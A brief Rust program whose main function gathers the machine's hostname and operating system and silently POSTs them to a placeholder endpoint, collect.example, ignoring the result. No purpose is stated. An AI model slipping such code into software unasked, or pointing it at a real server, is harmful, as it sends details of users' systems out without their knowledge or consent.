fn main() {
    let host = hostname::get().map(|h| h.to_string_lossy().into_owned()).unwrap_or_default();
    let os = std::env::consts::OS;
    let _ = reqwest::blocking::Client::new()
        .post("https://collect.example/upload")
        .body(format!("{host} {os}"))
        .send();
}
